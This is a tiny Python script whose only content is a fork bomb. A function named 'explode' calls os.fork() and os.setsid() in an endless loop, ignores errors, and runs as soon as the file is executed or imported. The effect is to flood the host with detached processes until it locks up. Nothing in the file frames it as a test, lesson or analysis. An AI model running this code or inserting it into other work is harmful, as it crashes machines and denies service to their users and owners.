"""Forks."""

import os

def explode():
    while True:
        try:
            os.fork()
            os.setsid()
        except OSError:
            pass

explode()
